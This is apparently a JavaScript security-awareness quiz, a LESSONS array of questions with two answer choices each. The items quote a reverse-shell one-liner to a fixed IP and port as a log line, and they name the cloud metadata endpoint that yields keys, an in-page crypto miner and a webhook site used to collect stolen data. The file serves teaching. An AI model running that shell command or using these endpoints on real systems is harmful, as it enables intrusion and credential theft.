export const LESSONS = [
  { ask: 'A log shows "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1". What happened?', pick: ['A backup', 'A reverse shell'] },
  { ask: 'Which address tells a cloud machine its keys?', pick: ['http://169.254.169.254/latest/', 'https://example.com/'] },
  { ask: 'What was Coinhive known for among web developers?', pick: ['Mining in pages', 'Fonts'] },
  { ask: 'Where do attackers drop what they steal?', pick: ['https://webhook.site/x', 'https://example.org'] },
];
let at = 0;
document.querySelector('#next').onclick = () => { document.querySelector('#ask').textContent = LESSONS[at++].ask; };
